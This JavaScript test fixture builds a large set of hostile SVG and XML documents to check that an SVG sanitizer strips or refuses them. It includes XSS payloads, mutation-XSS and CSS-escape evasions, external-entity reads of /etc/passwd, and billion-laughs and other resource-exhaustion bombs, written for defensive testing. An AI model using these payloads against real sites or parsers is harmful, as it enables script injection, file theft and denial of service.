// Drawings that want to run, load, navigate or become part of the page. `address` is where a request would arrive.
// Every drawing shows a square, so that what remains of it can be imported, unless it says that it is refused.

const PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGP4z8DwHwAFAAH/iZk9HQAAAABJRU5ErkJggg==";
// The path stays where a style paints the square with something from outside, which is nothing.
const SQUARE = `<g id="a"><rect width="100" height="100"/><path d="M0 0h90v90z"/></g>`;
const NAMESPACES = `xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:ev="http://www.w3.org/2001/xml-events"`;
const svg = (inside, root = `viewBox="0 0 100 100"`) => `<svg ${NAMESPACES} ${root}>${SQUARE}${inside}</svg>`;
const encode = (text) => encodeURIComponent(text);
const base64 = (text) => Buffer.from(text).toString("base64");

export function listHostile(address) {
  const script = `globalThis.pwned=1;fetch("${address}/script")`;
  const inner = `<svg xmlns="http://www.w3.org/2000/svg" id="x" onload='${script}'><script>${script}</script></svg>`;
  const html = {
    // ---- Elements of HTML and other languages: without a size they were put into the page to be measured
    "meta refresh": svg(`<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${address}/pwned"/>`, ""),
    "meta refresh, prefixed": svg(`<h:meta http-equiv="refresh" content="0;url=${address}/pwned"/>`, ""),
    "meta refresh in a group": svg(`<g><h:meta http-equiv="REFRESH" content="0;URL='${address}/pwned'"/></g>`, ""),
    "meta policy": svg(`<h:meta http-equiv="Content-Security-Policy" content="script-src *"/>`, ""),
    "base": svg(`<h:base href="${address}/"/><image href="pwned.png" width="9" height="9"/>`, ""),
    "img": svg(`<h:img src="${address}/img" onerror='${script}'/>`, ""),
    "img srcset": svg(`<h:img srcset="${address}/srcset 1x, ${address}/2 2x" sizes="100vw"/>`, ""),
    "picture and source": svg(`<h:picture><h:source srcset="${address}/source"/><h:img src="data:,"/></h:picture>`, ""),
    "iframe": svg(`<h:iframe src="${address}/iframe" srcdoc="&lt;script>${encode(script)}&lt;/script>"/>`, ""),
    "object and embed": svg(`<h:object data="${address}/object"/><h:embed src="${address}/embed"/>`, ""),
    "link stylesheet": svg(`<h:link rel="stylesheet" href="${address}/link"/><h:link rel="preload" as="image" href="${address}/preload"/><h:link rel="prefetch" href="${address}/prefetch"/>`, ""),
    "style of HTML": svg(`<h:style>@import "${address}/style"; * { background: url(${address}/background) }</h:style>`, ""),
    "script of HTML": svg(`<h:script>${script}</h:script><h:script src="${address}/script.js"/>`, ""),
    "video and audio": svg(`<h:video src="${address}/video" poster="${address}/poster" autoplay=""/><h:audio src="${address}/audio" autoplay=""><h:track src="${address}/track"/></h:audio>`, ""),
    "form": svg(`<h:form action="${address}/form"><h:input autofocus="" onfocus='${script}' type="image" src="${address}/input"/><h:button formaction="javascript:${encode(script)}">x</h:button></h:form>`, ""),
    "body and table backgrounds": svg(`<h:body background="${address}/body" onload='${script}'/><h:table background="${address}/table"/>`, ""),
    "details and dialog": svg(`<h:details open="" ontoggle='${script}'/><h:dialog open="" onclose='${script}'/>`, ""),
    "template with a shadow": svg(`<h:template shadowrootmode="open"><h:img src="${address}/shadow"/></h:template>`, ""),
    "MathML": svg(`<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${encode(script)}"><mtext><h:img src="${address}/math" onerror='${script}'/></mtext></math>`, ""),
    "XSLT in the drawing": svg(`<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:import href="${address}/xsl"/></xsl:stylesheet>`),
    "a namespace that looks alike": svg(`<x:script xmlns:x="http://www.w3.org/2000/svg ">${script}</x:script><y:image xmlns:y="http://www.w3.org/2000/SVG" href="${address}/alike"/>`),
    "no namespace": svg(`<g xmlns=""><script>${script}</script><img src="${address}/none" onerror='${script}'/></g>`, ""),
    "a custom element": svg(`<h:x-card is="x-card" onclick='${script}'/><h:slot onslotchange='${script}'/>`, ""),
  };
  const elements = {
    // ---- Elements of SVG
    "script": svg(`<script>${script}</script>`, ""),
    "script href": svg(`<script href="${address}/a.js"/><script xlink:href="${address}/b.js" type="module"/>`, ""),
    "script in CDATA in defs": svg(`<defs><script type="application/ecmascript"><![CDATA[${script}]]></script></defs>`),
    "script by another prefix": svg(`<s:script xmlns:s="http://www.w3.org/2000/svg">${script}</s:script>`, ""),
    "foreignObject": svg(`<foreignObject width="100" height="100"><h:body><h:img src="${address}/foreign" onerror='${script}'/><h:iframe src="${address}/frame"/></h:body></foreignObject>`, ""),
    "foreignObject in a switch": svg(`<switch><foreignObject width="9" height="9" requiredExtensions="http://www.w3.org/1999/xhtml"><h:script>${script}</h:script></foreignObject><g/></switch>`),
    "elements that SVG 2 takes from HTML": svg(`<iframe src="${address}/iframe"/><video src="${address}/video"/><audio src="${address}/audio"/><canvas onclick='${script}'/>`, ""),
    "handler and listener": svg(`<handler type="text/javascript" ev:event="load">${script}</handler><ev:listener event="load" handler="#x"/>`),
    "set": svg(`<a><set attributeName="href" to="javascript:${encode(script)}"/><rect width="9" height="9"/></a><image width="9" height="9"><set attributeName="href" to="${address}/set"/></image>`),
    "animate": svg(`<use><animate attributeName="xlink:href" values="${address}/a#x;data:image/svg+xml,${encode(inner)}#x" begin="0s" dur="1s" onbegin='${script}' onend='${script}' fill="freeze"/></use>`, ""),
    "animateTransform and discard": svg(`<animateTransform attributeName="transform" onbegin='${script}' dur="1s"/><discard begin="0s" href="#a"/><animateMotion path="M0 0 9 9"><mpath href="${address}/m#x"/></animateMotion>`),
    "fonts": svg(`<font-face font-family="x"><font-face-src><font-face-uri href="${address}/font.svg#x"/></font-face-src></font-face><text font-family="x">a</text>`),
    "cursor, view and colour profile": svg(`<cursor xlink:href="${address}/cursor"/><view id="v"/><color-profile xlink:href="${address}/profile"/><tref xlink:href="${address}/tref"/>`),
    "anchor": svg(`<a href="javascript:${encode(script)}" target="_top" ping="${address}/ping" download=""><rect width="9" height="9" onclick='${script}'/></a>`, ""),
    "title and desc with elements": svg(`<title><h:img src="${address}/title" onerror='${script}'/></title><desc><h:meta http-equiv="refresh" content="0;url=${address}/desc"/></desc><metadata><h:img src="${address}/metadata"/></metadata>`, ""),
  };
  const events = ["onload", "onclick", "onerror", "onbegin", "onfocusin", "onpointerover", "onanimationstart", "ontransitionend", "onscroll", "onwheel", "onbeforematch"];
  const attributes = {
    // ---- Attributes
    "events on the root": svg("", events.map((name) => `${name}='${script}'`).join(" ")),
    "events on a shape": svg(`<rect width="9" height="9" tabindex="1" autofocus="" ${events.map((name) => `${name}='${script}'`).join(" ")}/>`, ""),
    "events with a prefix": svg(`<rect width="9" height="9" ev:onload='${script}' xlink:onload='${script}'/>`),
    "xml:base": svg(`<g xml:base="${address}/"><image href="base.png" width="9" height="9"/><use href="base.svg#a"/></g>`, `xml:base="${address}/root/"`),
    "use of outside": svg(`<use href="${address}/use.svg#a"/><use xlink:href="//127.0.0.1:9/use.svg#a"/><use href="/use.svg#a"/><use href="use.svg"/>`),
    "use of a data URL": svg(`<use href="data:image/svg+xml,${encode(inner)}#x"/><use xlink:href="data:image/svg+xml;base64,${base64(inner)}#x"/>`),
    "image of every scheme": svg(["http://127.0.0.1:9/a", "https://127.0.0.1:9/a", "//127.0.0.1:9/a", "ftp://127.0.0.1/a", "file:///etc/passwd", "blob:null/0", "filesystem:http://x/a", "javascript:alert(1)", "vbscript:a", "about:blank", "mailto:a@b", "chrome://settings", "view-source:http://x", "ws://127.0.0.1:9", " \t\nhttp://127.0.0.1:9/b", "\\\\127.0.0.1\\a", "?x", "a.png", "/a.png", "HTTP://127.0.0.1:9/c", "ht&#9;tp://127.0.0.1:9/d", "&#1;javascript:1"].filter((one) => !one.includes("&#1;")).map((one) => `<image width="9" height="9" href="${one}"/><feImage xlink:href="${one}"/>`).join("") + `<image width="9" height="9" href="${address}/image"/>`),
    "href over xlink:href": svg(`<image width="9" height="9" xlink:href="data:image/png;base64,${PNG}" href="${address}/href"/><use xlink:href="#a" href="${address}/use#a"/>`),
    "another prefix for xlink": svg(`<image xmlns:q="http://www.w3.org/1999/xlink" width="9" height="9" q:href="${address}/q"/>`),
    "gradients, patterns, filters and paths of outside": svg(`<linearGradient id="l" href="${address}/l#x"/><pattern id="p" xlink:href="${address}/p#x"/><filter id="f" href="${address}/f#x"><feImage href="${address}/fe"/></filter><text><textPath href="${address}/t#x">a</textPath></text><rect width="9" height="9" fill="url(#l)" filter="url(#f)"/>`),
    "src, srcset, data, poster, formaction, background": svg(`<image width="9" height="9" src="${address}/src" srcset="${address}/set 2x" data="${address}/data" poster="${address}/poster" background="${address}/background" formaction="${address}/f" imagesrcset="${address}/is 1x"/>`),
    "requiredFeatures and externalResourcesRequired": svg(`<g externalResourcesRequired="true" requiredFeatures="${address}/feature" requiredExtensions="${address}/extension"/>`),
    "names of the page": svg(`<rect id="app" name="verve" width="9" height="9"/><g id="__proto__"/><g id="constructor"/><g class="toString" id="location"/>`, ""),
  };
  const styles = {
    // ---- Styles
    "import": svg(`<style>@import "${address}/a.css"; @import url(${address}/b.css) screen; @\\69mport '${address}/c.css';</style>`, ""),
    "import after a charset": svg(`<style>@charset "utf-8";@import/**/url("${address}/d.css")layer(x) supports(display:block);@namespace url(${address}/n);</style>`),
    "font-face": svg(`<style>@font-face{font-family:x;src:url(${address}/x.woff2)}text{font-family:x}</style><text y="50">a</text>`),
    "url in a rule": svg(`<style>rect{fill:url(${address}/a#x);mask:url("${address}/b#x");filter:url('${address}/c.svg#x')}</style>`),
    "url in escapes": svg(`<style>rect{fill:\\75\\72\\6c(${address}/a#x);stroke:u\\72l(${address}/b#x);mask:\\000075rl(${address}/c#x);filter:UR\\4C("${address}/d#x")}</style>`),
    "url in comments": svg(`<style>rect{fill:u/**/rl(${address}/a#x);mask:url(/**/${address}/b#x);filter:/*url(*/url(${address}/c#x)}</style>`),
    "url after a hash": svg(`<style>rect{fill:url( "#a" , "${address}/a");mask:url(#a ${address}/b);clip-path:url("#a"url(${address}/c))}</style>`),
    "url with a line break": svg(`<style>rect{fill:url("${address}/\\\na#x");mask:url(\n${address}/b#x\n)}</style>`),
    "image-set, image, src, cross-fade, element": svg(`<style>rect{mask-image:image-set("${address}/a" 1x);background:-webkit-image-set(url(${address}/b) 1x);cursor:image("${address}/c"),auto;content:src("${address}/d");mask:cross-fade(url(${address}/e),red);list-style-image:url(${address}/f);border-image:url(${address}/g)}</style>`),
    "style attribute": svg(`<rect width="9" height="9" style="background:url(${address}/a);fill:url(${address}/b#x);-moz-binding:url(${address}/c);behavior:url(${address}/d);cursor:url(${address}/e),auto;offset-path:url(${address}/f#x);shape-outside:url(${address}/g)"/>`, ""),
    "presentation attributes": svg(`<rect width="9" height="9" fill="url(${address}/a#x) red" stroke="url('${address}/b#x')" filter="url(${address}/c#x)" mask="url(${address}/d#x)" clip-path="url(${address}/e#x)" marker="url(${address}/f#x)" cursor="url(${address}/g),auto" marker-end="\\75rl(${address}/h#x)"/>`, ""),
    "variables": svg(`<style>:root{--a:url(${address}/a);--b:${address}/b}rect{background:var(--a);fill:var(--a);mask:url(var(--b))}@property --c{syntax:"*";inherits:true;initial-value:url(${address}/c)}</style>`),
    "expression and behaviour": svg(`<style>rect{width:expression(${script});behavior:url(#default#time2);-moz-binding:url("data:text/xml,${encode(inner)}")}</style>`),
    "animations of CSS": svg(`<style>@keyframes k{from{fill:red}to{mask:url(${address}/k#x)}}rect{animation:k 1s infinite;transition:all 1s}</style>`),
    "rules in rules": svg(`<style>@supports(display:block){@import "${address}/s";rect{fill:url(${address}/a)}}@layer x{rect{mask:url(${address}/l#x)}}@container(width>0){rect{background:url(${address}/c)}}g{&amp; rect{background:url(${address}/n)}rect{background:url(${address}/m)}}@document url(${address}/d){rect{fill:red}}</style>`),
    "a style that never ends": svg(`<style>rect{fill:red;mask:url("${address}/a#x</style>`),
    "brackets that do not match": svg(`<style>rect{fill:rgb(1,2,3};mask:url(${address}/a#x)} g[id="]}{]{background:url(${address}/b)"]{} a(}{){fill:url(${address}/c)}</style>`),
    "a bad string": svg(`<style>rect{font-family:"a\nb:url(${address}/a);fill:red;"}rect{mask:url(${address}/b#x)}</style>`),
    "selectors that load": svg(`<style>rect[id^="a"]{background:url(${address}/leak?a)}rect::before{content:url(${address}/before)}rect:hover{cursor:url(${address}/hover)}</style>`),
    "a style of another type": svg(`<style type="text/xsl">@import "${address}/t";</style><style media="all and (min-width:0)" type="TEXT/CSS">@import "${address}/u";</style>`),
    "style text that ends the style in HTML": svg(`<style>&lt;/style>&lt;img src="${address}/end" onerror='${script}'></style>`),
    "style with elements in it": svg(`<style>rect{}<h:img src="${address}/in" onerror='${script}'/><script>${script}</script>@import "${address}/x";</style>`),
  };
  const pictures = {
    // ---- Pictures that are no pictures
    "SVG as a data URL": svg(`<image width="9" height="9" href="data:image/svg+xml,${encode(inner)}"/>`),
    "SVG in base64": svg(`<image width="9" height="9" href="data:image/svg+xml;base64,${base64(inner)}"/>`),
    "SVG that claims to be PNG": svg(`<image width="9" height="9" xlink:href="data:image/png;base64,${base64(inner)}"/>`),
    "HTML as a data URL": svg(`<image width="9" height="9" href="data:text/html,&lt;script>${encode(script)}&lt;/script>"/><feImage href=" DATA:text/html;base64,${base64(`<script>${script}</script>`)}"/>`),
  };
  const xml = {
    // ---- XML
    "stylesheet instructions": `<?xml version="1.0"?><?xml-stylesheet href="${address}/pi.css" type="text/css"?><?xml-stylesheet href="${address}/pi.xsl" type="text/xsl"?>${svg(`<?php echo 1 ?>`, "")}`,
    "document type of outside": `<!DOCTYPE svg SYSTEM "${address}/svg.dtd">${svg("")}`,
    "document type with an instruction": `<!DOCTYPE svg [<?xml-stylesheet href="${address}/pi.xsl" type="text/xsl"?><!ATTLIST rect onload CDATA "${encode(script)}"><!ATTLIST svg onload CDATA 'globalThis.pwned=1'>]>${svg("", "")}`,
    "entity with a script": `<!DOCTYPE svg [<!ENTITY s "<script>globalThis.pwned=1</script>"><!ENTITY n "http://www.w3.org/1999/xhtml"><!ENTITY r "refresh">]>${svg(`&s;<meta xmlns="&n;" http-equiv="&r;" content="0;url=${address}/entity"/>`, "")}`,
    "entity in a style": `<!DOCTYPE svg [<!ENTITY i "@imp"><!ENTITY j "ort '${address}/entity.css';">]>${svg(`<style>&i;&j;</style><rect width="9" height="9" style="fill:u&#114;l(${address}/r#x)"/>`, "")}`,
    "entity in an address": `<!DOCTYPE svg [<!ENTITY c "javascript"><!ENTITY d "${address}">]>${svg(`<a href="&c;:${encode(script)}"><image width="9" height="9" href="&d;/x"/></a>`, "")}`,
    "parameter entity of outside": `<!DOCTYPE svg [<!ENTITY % p SYSTEM "${address}/p.dtd"> %p;]>${svg("")}`,
    "CDATA that closes": svg(`<text y="50"><![CDATA[</text></svg><script>${script}</script><img src=x onerror=${script}>]]></text>`, ""),
    "comments that close in HTML": svg(`<!--><img src="${address}/comment" onerror='${script}'>--><text><!-- --&gt; &lt;script&gt; --></text>`, ""),
    "attribute that closes in HTML": svg(`<g id="&quot;>&lt;/svg>&lt;img src='${address}/id' onerror=pwned=1>" class="&lt;/style>&lt;script>pwned=1&lt;/script>"/>`, ""),
    "style, comment and image (mXSS)": svg(`<style><![CDATA[<!--</style><img src="${address}/mxss" onerror='${script}'>-->]]></style>`, ""),
    "noscript, textarea and plaintext (mXSS)": svg(`<h:noscript><h:p title="&lt;/noscript>&lt;img src=x onerror=pwned=1>"/></h:noscript><h:textarea>&lt;/textarea>&lt;img src=x onerror=pwned=1></h:textarea><h:plaintext/><title>&lt;/title>&lt;img src=x onerror=pwned=1></title>`, ""),
    "math, mtext, mglyph and style (mXSS)": svg(`<m:math xmlns:m="http://www.w3.org/1998/Math/MathML"><m:mtext><h:table><m:mglyph><h:style>&lt;!--&lt;/style>&lt;img title="--&amp;gt;&amp;lt;img src=1 onerror=pwned=1&amp;gt;"></h:style></m:mglyph></h:table></m:mtext></m:math>`, ""),
    "desc as an integration point (mXSS)": svg(`<desc><![CDATA[</desc><img src=x onerror=pwned=1>]]></desc><text>&lt;/text>&lt;p>&lt;/svg>&lt;img src=x onerror=pwned=1></text>`, ""),
    "a prefix for everything": `<s:svg xmlns:s="http://www.w3.org/2000/svg" xmlns="http://www.w3.org/1999/xhtml"><s:g id="a"><s:rect width="100" height="100"/></s:g><meta http-equiv="refresh" content="0;url=${address}/prefix"/><img src="${address}/i"/><script>${script}</script></s:svg>`,
    "XInclude": svg(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${address}/include" parse="text"/>`),
  };
  const later = {
    // ---- Attacks on this reader in particular
    "prefixes named as objects' own": `<svg ${NAMESPACES} xmlns:__proto__="http://www.w3.org/1999/xhtml" xmlns:constructor="http://www.w3.org/1999/xhtml" viewBox="0 0 100 100">${SQUARE}<__proto__:img src="${address}/p"/><constructor:script>${script}</constructor:script><toString:rect/></svg>`,
    "attributes named as objects' own": svg(`<rect width="9" height="9" __proto__="x" constructor="y" hasOwnProperty="z" toString="onload"/>`),
    "the prefix xml declared anew": `<svg ${NAMESPACES} xmlns:xml="http://www.w3.org/1999/xhtml" viewBox="0 0 100 100">${SQUARE}<xml:img src="${address}/x"/></svg>`,
    "the default namespace taken away and given back": svg(`<g xmlns="http://www.w3.org/1999/xhtml"><svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg></g>`),
    "names in other cases": svg(`<SCRIPT>${script}</SCRIPT><Script>${script}</Script><foreignobject><h:img src="${address}/f"/></foreignobject><IMAGE href="${address}/i"/><rect width="9" height="9" ONLOAD='${script}' HREF="${address}/h" Style="fill:url(${address}/s)"/>`),
    "a fullwidth and a long s": svg(`<\u017fcript>${script}</\u017fcript><style>@\u0131mport "${address}/a";rect{fill:\uff55rl(${address}/b);mask:url\uff08${address}/c)}</style>`),
    "escapes of zero and beyond": svg(`<style>rect{fill:\\0075 rl(${address}/a);mask:\\110000url(${address}/b);filter:u\\0rl(${address}/c);clip-path:\\d800 url(${address}/d)}</style>`),
    "an escape at the end": svg(`<rect width="9" height="9" style="fill:red\\"/><rect width="9" height="9" style="mask:url(${address}/x\\"/><style>rect{fill:red}\\</style>`),
    "a string over the end of an attribute": svg(`<rect width="9" height="9" style="font-family:'" fill="';mask:url(${address}/x)"/>`),
    "a comment over the end of a style": svg(`<style>rect{fill:red}/*</style><style>*/@import "${address}/x";rect{mask:url(${address}/y)}</style>`),
    "braces that close the rule": svg(`<rect width="9" height="9" style="fill:red}*{background:url(${address}/x)}a{fill:red"/><style>a{fill:red}}@import "${address}/y";}{rect{mask:url(${address}/z)}</style>`),
    "a rule between at-rules": svg(`<style>@charset "x" rect{fill:url(${address}/a)} @media url(${address}/b){rect{fill:red}} @media all{@import "${address}/c";@media all{rect{mask:url(${address}/d)}}}</style>`),
    "a hash that goes on outside": svg(`<use href="#a ${address}/x"/><use href="#/../${address}/y"/><rect width="9" height="9" fill="url(#a'${address}/z)" mask="url('#a'${address})"/>`),
    "an address of blanks and a hash": svg(`<use href="&#x20;&#x9;#a"/><use href="&#xa0;${address}/x#a"/><image width="9" height="9" href="&#x200b;${address}/y"/>`),
    "a picture with something after it": svg(`<image width="9" height="9" href="data:image/png;base64,${PNG}#${address}/x"/><image width="9" height="9" href="data:image/png;base64,${PNG}&quot; onload=&quot;pwned=1"/><image width="9" height="9" href="data:image/svg+xml;x=;base64,${PNG}"/>`),
    "an entity that is half a tag's value": `<!DOCTYPE svg [<!ENTITY q '" onload="pwned=1'><!ENTITY l "&#60;script>pwned=1&#60;/script>"><!ENTITY m "&#38;#60;img src=x onerror=pwned=1>">]>${svg(`<g id="&q;" class="a&q;b"/><text>&l;&m;</text>`)}`,
    "an entity with the name of another's property": `<!DOCTYPE svg [<!ENTITY constructor "<g/>"><!ENTITY __proto__ "x"><!ENTITY amp "&#60;script>pwned=1&#60;/script>">]>${svg(`&constructor;<text>&__proto__;&amp;</text>`)}`,
    "a document type with quotes and brackets": `<!DOCTYPE svg PUBLIC "]>" '[<!ENTITY' [<!ENTITY a "]><script>pwned=1</script>"><!-- ]><script>pwned=1</script> --><?x ]> ?>]>${svg(`<text>&#x5d;</text>`)}`,
    "variables of variables": svg(`<style>rect{--a:var(--b);--b:var(--a);--c:ur;--d:l(${address}/d);fill:var(--c)var(--d);stroke:var(--e,url(${address}/e))}</style>`),
    "inkscape's label as markup": svg(`<g xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:label="&lt;img src='${address}/l' onerror='pwned=1'>" inkscape:href="${address}/h" inkscape:onload="pwned=1"><rect width="9" height="9"/></g>`),
    "text that ends everything in HTML": svg(`<text>&lt;/text>&lt;/svg>&lt;/title>&lt;/style>&lt;/textarea>&lt;/noscript>&lt;img src=x onerror=pwned=1></text><style>a[b="&lt;/style>&lt;img src=x onerror=pwned=1>"]{fill:red}</style>`),
    "styles in other elements": svg(`<defs><style>@import "${address}/a"</style></defs><metadata><style>@import "${address}/b"</style></metadata><text><style>rect{fill:url(${address}/c)}</style></text>`),
  };
  const uses = Array.from({ length: 20 }, (_, i) => `<g id="u${i + 1}"><use href="#u${i}"/><use href="#u${i}"/></g>`).join("");
  const refused = {
    // ---- Refused as a whole
    "PNG of four billion pixels": svg(`<image width="9" height="9" href="data:image/png;base64,${base64(Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "latin1"), Buffer.from([0, 1, 0, 0, 0, 1, 0, 0, 8, 6, 0, 0, 0])]))}"/>`),
    "billion laughs": `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 12 }, (_, i) => `<!ENTITY ${"bcdefghijklm"[i]} "${`&${"abcdefghijkl"[i]};`.repeat(10)}">`).join("")}]>${svg(`<text>&m;</text>`)}`,
    "quadratic blow-up": `<!DOCTYPE svg [<!ENTITY a "${"a".repeat(20000)}">]>${svg(`<text>${"&a;".repeat(20000)}</text>`)}`,
    "an entity in itself": `<!DOCTYPE svg [<!ENTITY a "&b;"><!ENTITY b "&a;">]>${svg(`<text>&a;</text>`)}`,
    "an entity of outside": `<!DOCTYPE svg [<!ENTITY x SYSTEM "${address}/x"><!ENTITY y PUBLIC "y" "file:///etc/passwd">]>${svg(`<text>&x;&y;</text>`)}`,
    "uses in uses": svg(`<g id="u0"><rect width="9" height="9"/></g>${uses}`),
    "uses in uses by encoded ids": svg(`<g id="u0"><rect width="9" height="9"/></g>${uses.replaceAll("#u", "#%75")}`),
    "patterns in patterns by style sheet": svg(`<style>${Array.from({ length: 9 }, (_, i) => `.c${i + 1}{fill:url(#p${i})}`).join("")}</style>${Array.from({ length: 10 }, (_, i) => `<pattern id="p${i}" width="1" height="1"><g class="c${i}">${"<rect width='1' height='1'/>".repeat(10)}</g></pattern>`).join("")}<g class="c9"><rect width="9" height="9"/></g>`),
    "depth": svg("<g>".repeat(3000) + "</g>".repeat(3000)),
    "a million elements": svg("<g/>".repeat(1000000)),
    "filters that take for ever": svg(`<filter id="f"><feTurbulence numOctaves="100000000" baseFrequency="1"/></filter><rect width="9" height="9" filter="url(#f)"/>`),
    "HTML instead": `<html xmlns="http://www.w3.org/1999/xhtml"><head><meta http-equiv="refresh" content="0;url=${address}/html"/></head><body onload='${script}'/></html>`,
    "HTML that is not XML": `<!doctype html><svg><script>${script}</script><img src=${address}/x onerror=${script}>`,
    "UTF-7": `+ADw-svg xmlns=+ACI-http://www.w3.org/2000/svg+ACI- onload=+ACI-pwned=1+ACI-/+AD4-`,
    "a document type in the middle": svg(`<g><!DOCTYPE svg SYSTEM "${address}/x"></g>`),
  };
  return { accepted: { ...html, ...elements, ...attributes, ...styles, ...pictures, ...xml, ...later }, refused };
}
